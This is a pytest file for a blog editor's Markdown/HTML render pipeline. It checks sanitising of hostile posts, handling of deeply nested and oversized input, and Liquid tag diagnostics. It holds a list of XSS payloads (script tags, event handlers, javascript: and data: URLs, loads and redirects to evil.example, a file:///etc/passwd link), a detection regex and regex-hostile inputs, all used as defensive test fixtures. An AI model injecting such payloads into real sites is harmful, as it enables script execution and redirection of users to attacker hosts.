"""Hostile posts: the pipeline returns a result or a diagnostic, never
raises, and nothing that could run or navigate survives sanitising."""

from __future__ import annotations

import re

import pytest

from editor.core.render.pipeline import Pipeline

DANGEROUS = re.compile(r"<script|onerror|onclick|onload|javascript:|srcdoc|file:|<iframe", re.I)


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return Pipeline(config={})


@pytest.mark.parametrize(
    "body",
    [
        '<script>alert("x")</script>',
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<img src="x.png" onerror="alert(1)">',
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        '<a href="javascript&colon;alert(1)">x</a>',
        "[file](file:///etc/passwd)",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<div style="background:url(javascript:alert(1))">x</div>',
        "<form action=https://evil.example><input name=a></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
    ],
)
def test_nothing_dangerous_survives(pipeline: Pipeline, body: str) -> None:
    html = pipeline.render(body + "\n\nafter").html
    assert DANGEROUS.search(html) is None, html
    assert "<form" not in html and "<meta" not in html and "<base" not in html
    assert "after" in html


def test_embeds_become_a_card_naming_the_source(pipeline: Pipeline) -> None:
    html = pipeline.render('<iframe src="https://www.youtube.com/embed/xyz"></iframe>').html
    assert "galley-embed" in html and "www.youtube.com" in html and "<iframe" not in html


def test_article_markup_survives(pipeline: Pipeline) -> None:
    body = (
        '<figure class="wide" id="f1" style="margin: 0"><img src="/a.png" alt="图">'
        "<figcaption>说明</figcaption></figure>\n\n| a |\n|---|\n| b |"
    )
    html = pipeline.render(body).html
    for kept in ('class="wide"', 'id="f1"', 'style="margin: 0"', "<figcaption>", "<table>"):
        assert kept in html


def test_lists_nested_400_deep_give_a_result(pipeline: Pipeline) -> None:
    body = "".join("  " * i + "- item\n" for i in range(400)) + "\nafter"
    result = pipeline.render(body)
    assert "after" in result.html
    assert result.blocks  # rendered, or shown as source with a diagnostic


def test_quotes_nested_400_deep_give_a_result(pipeline: Pipeline) -> None:
    result = pipeline.render("".join(">" * i + " q\n" for i in range(1, 400)))
    assert result.blocks


def test_a_one_megabyte_line(pipeline: Pipeline) -> None:
    line = "词 word " * 110_000  # 1 MB in UTF-8
    result = pipeline.render(line)
    assert len(result.html) > len(line)


@pytest.mark.parametrize("body", ["*a" * 20_000, "<div>" * 3_000, "`" * 50_000, "_" * 50_000])
def test_regex_hostile_inputs_return(pipeline: Pipeline, body: str) -> None:
    assert pipeline.render(body).blocks is not None


# Nested brackets make Python-Markdown's link parsing quadratic (20,000 take
# a minute); such posts are what the worker's time limit is for, see
# tests/services/test_render_worker.py.


def test_an_unknown_liquid_tag_is_a_placeholder_and_a_warning(pipeline: Pipeline) -> None:
    result = pipeline.render(
        "before\n\nText {% gist 123 %} and {% youtube abc %}\n\nafter", first_line=5
    )
    assert result.html.count("galley-unknown-tag") == 2 and "after" in result.html
    assert [(d.line, d.severity) for d in result.diagnostics] == [(7, "warning"), (7, "warning")]


def test_an_unclosed_liquid_tag_is_shown_as_written_with_an_error(pipeline: Pipeline) -> None:
    result = pipeline.render("ok\n\n{% if page.x %}\nnever closed\n\nmore", first_line=3)
    assert "{% if page.x %}" in result.html and "more" in result.html
    assert any(d.severity == "error" and d.line == 5 for d in result.diagnostics)


def test_a_failed_block_does_not_spoil_the_next_render() -> None:
    pipeline = Pipeline(config={})
    deep = "".join("  " * i + "- item\n" for i in range(400))
    pipeline.render(deep)  # Python-Markdown gives up (recursion) on this one
    assert pipeline.render("plain 段落 *text*").html == "<p>plain 段落 <em>text</em></p>"
